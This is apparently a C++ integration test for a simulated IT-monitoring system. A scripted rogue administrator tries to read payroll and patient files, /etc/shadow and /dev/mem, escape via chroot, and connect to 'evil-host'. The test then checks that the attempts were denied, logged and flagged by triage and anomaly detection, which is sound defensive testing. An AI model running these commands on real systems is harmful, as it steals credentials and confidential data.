// A longitudinal integration test: several simulated days of IT operation —
// many tickets across all classes, maintenance scripts, a rogue admin's
// attack campaign woven through the legitimate work — ending with global
// invariants: classified content never left the organization, every log is
// intact, the triage queue surfaces the attacker, and the machines are
// clean (no leaked sessions, processes, mounts or cgroups).

#include <gtest/gtest.h>

#include "src/core/report.h"
#include "src/core/script_runner.h"
#include "src/core/shell.h"
#include "src/core/workflow.h"
#include "src/workload/topology.h"

namespace watchit {
namespace {

class LongitudinalTest : public ::testing::Test {
 protected:
  static constexpr size_t kTickets = 80;

  void SetUp() override {
    user_pc_ = &cluster_.AddMachine("userpc", witnet::Ipv4Addr(10, 0, 1, 50));
    admin_pc_ = &cluster_.AddMachine("adminpc", witnet::Ipv4Addr(10, 0, 1, 51));

    dispatcher_.AddSpecialist("alice", {"T-1", "T-2", "T-3", "T-4", "T-5", "T-6"});
    dispatcher_.AddSpecialist("bob", {"T-6", "T-7", "T-8", "T-9", "T-10", "T-11"});
    dispatcher_.AddSpecialist("mallory", {"T-1", "T-2", "T-3", "T-4", "T-5", "T-6", "T-7",
                                          "T-8", "T-9", "T-10", "T-11"});
    user_pc_->tcb().AuthorizeModule("raid-ctl");

    witload::TicketGenerator::Options hist;
    hist.seed = 42;
    witload::TicketGenerator gen(hist);
    auto history = gen.GenerateBatch(900, witload::TicketGenerator::HistoricalDistribution());
    std::vector<std::pair<std::string, std::string>> labelled;
    for (const auto& t : history) {
      labelled.emplace_back(t.text, t.true_class);
    }
    ItFramework::Config config;
    config.lda.iterations = 120;
    framework_ = std::make_unique<ItFramework>(config);
    framework_->TrainOnHistory(labelled);
    workflow_ = std::make_unique<TicketWorkflow>(&cluster_, framework_.get(), &dispatcher_);
  }

  Cluster cluster_;
  Machine* user_pc_ = nullptr;
  Machine* admin_pc_ = nullptr;
  Dispatcher dispatcher_;
  std::unique_ptr<ItFramework> framework_;
  std::unique_ptr<TicketWorkflow> workflow_;
};

TEST_F(LongitudinalTest, WeeksOfOperationHoldAllInvariants) {
  witos::Kernel& kernel = user_pc_->kernel();

  // --- Phase 1: a stream of legitimate tickets ------------------------------
  witload::TicketGenerator::Options live;
  live.seed = 4242;
  live.with_ops = true;
  live.typo_rate = 0.03;
  witload::TicketGenerator gen(live);
  auto tickets =
      gen.GenerateBatch(kTickets, witload::TicketGenerator::EvaluationDistribution());
  size_t resolved = 0;
  size_t satisfied = 0;
  for (const auto& ticket : tickets) {
    auto result = workflow_->Process(ticket, "userpc", "adminpc");
    ASSERT_TRUE(result.ok()) << ticket.id;
    ++resolved;
    satisfied += result->satisfied_in_view ? 1u : 0u;
    kernel.clock().Advance(600ull * 1000000000ull);  // 10 minutes pass
  }
  EXPECT_EQ(resolved, kTickets);
  EXPECT_GT(satisfied, kTickets * 3 / 4);

  // --- Phase 2: nightly maintenance scripts ----------------------------------
  ScriptRunner scripts(user_pc_);
  for (const auto& report : scripts.RunAll(witload::ChefPuppetScripts())) {
    EXPECT_TRUE(report.fully_satisfied()) << report.script;
    EXPECT_TRUE(report.fully_contained()) << report.script;
  }

  // --- Phase 3a: mallory's habitual profile — occasional, spread-out,
  // boring broker use on legitimate tickets (what her baseline looks like).
  ClusterManager manager(&cluster_);
  for (int day = 0; day < 5; ++day) {
    Ticket routine;
    routine.id = "TKT-MALLORY-" + std::to_string(day);
    routine.target_machine = "userpc";
    routine.assigned_class = "T-5";
    routine.admin = "mallory";
    auto deployment = manager.Deploy(routine);
    ASSERT_TRUE(deployment.ok());
    AdminSession routine_session(user_pc_, deployment->session, deployment->certificate,
                                 &cluster_.ca());
    ASSERT_TRUE(routine_session.Login().ok());
    ASSERT_TRUE(routine_session.Pb(witbroker::kVerbPs, {}).ok());
    (void)manager.Expire(&*deployment);
    kernel.clock().Advance(8ull * 3600 * 1000000000ull);  // a workday passes
  }

  // --- Phase 3b: mallory's campaign, inside a legitimate T-6 ticket -----------
  Ticket rogue_ticket;
  rogue_ticket.id = "TKT-ROGUE";
  rogue_ticket.target_machine = "userpc";
  rogue_ticket.assigned_class = "T-6";
  rogue_ticket.admin = "mallory";
  auto rogue = manager.Deploy(rogue_ticket);
  ASSERT_TRUE(rogue.ok());
  AdminSession session(user_pc_, rogue->session, rogue->certificate, &cluster_.ca());
  ASSERT_TRUE(session.Login().ok());
  AdminShell shell(&session);
  // The campaign: probe, steal, exfiltrate, cover tracks.
  (void)shell.Execute("cat /home/user/documents/payroll.xlsx");
  (void)shell.Execute("cat /home/user/documents/patients.pdf");
  (void)shell.Execute("cat /etc/watchit/policy.conf");
  (void)kernel.Open(session.shell(), "/dev/mem", witos::kOpenRead);
  (void)kernel.Chroot(session.shell(), "/tmp");
  (void)shell.Execute("connect evil-host 443");
  for (int i = 0; i < 30; ++i) {
    (void)session.Pb(witbroker::kVerbReadFile, {"/etc/shadow"});
  }
  (void)manager.Expire(&*rogue);

  // --- Global invariants -------------------------------------------------------
  // 1. The confidential documents never moved: no session ever read them.
  //    (Their content strings cannot appear in any broker response or
  //    sniffer-passed payload; simplest proxy: the documents were denied on
  //    every attempt.)
  size_t doc_denials = kernel.audit().CountEvent(witos::AuditEvent::kFileDenied);
  EXPECT_GT(doc_denials, 0u);
  // 2. Every machine is clean: no active sessions, mounts or cgroups leak.
  for (Machine* machine : {user_pc_, admin_pc_}) {
    EXPECT_EQ(machine->containit().active_sessions(), 0u) << machine->name();
    auto host_mounts = machine->kernel().MountTable(1);
    for (const auto& entry : *host_mounts) {
      EXPECT_EQ(entry.mountpoint.find("/ConFS"), std::string::npos)
          << "leaked mount " << entry.mountpoint;
    }
    // Only the permanent cgroup (root) remains.
    EXPECT_EQ(machine->kernel().cgroups().size(), 1u) << machine->name();
    EXPECT_TRUE(machine->tcb_intact()) << machine->name();
  }
  // 3. The evidence chain is intact and holds the whole run.
  auto evidence = kernel.audit().VerifiedSnapshot();
  ASSERT_TRUE(evidence.ok());
  EXPECT_GT(evidence->size(), 100u);
  // 4. Forensics: mallory's rogue ticket tops the triage queue.
  ForensicReporter reporter(user_pc_);
  auto queue = reporter.TriageQueue();
  ASSERT_FALSE(queue.empty());
  EXPECT_EQ(queue.front().ticket_id, "TKT-ROGUE");
  EXPECT_GT(queue.front().severity, 40);
  // 5. Anomaly detection flags the shadow-file spree when fitted on the
  //    pre-incident baseline (fitting on the full stream would launder the
  //    rogue's own behaviour into her profile).
  const auto events = witbroker::BrokerEventsOf(*evidence);
  std::vector<witbroker::BrokerEvent> baseline;
  for (const auto& event : events) {
    if (event.ticket_id != "TKT-ROGUE") {
      baseline.push_back(event);
    }
  }
  witbroker::AnomalyDetector detector;
  detector.Fit(baseline);
  auto scores = detector.Analyze(events);
  size_t rogue_flagged = 0;
  for (const auto& score : scores) {
    if (score.flagged && events[score.event_index].ticket_id == "TKT-ROGUE") {
      ++rogue_flagged;
    }
  }
  EXPECT_GT(rogue_flagged, 20u);
}

}  // namespace
}  // namespace watchit
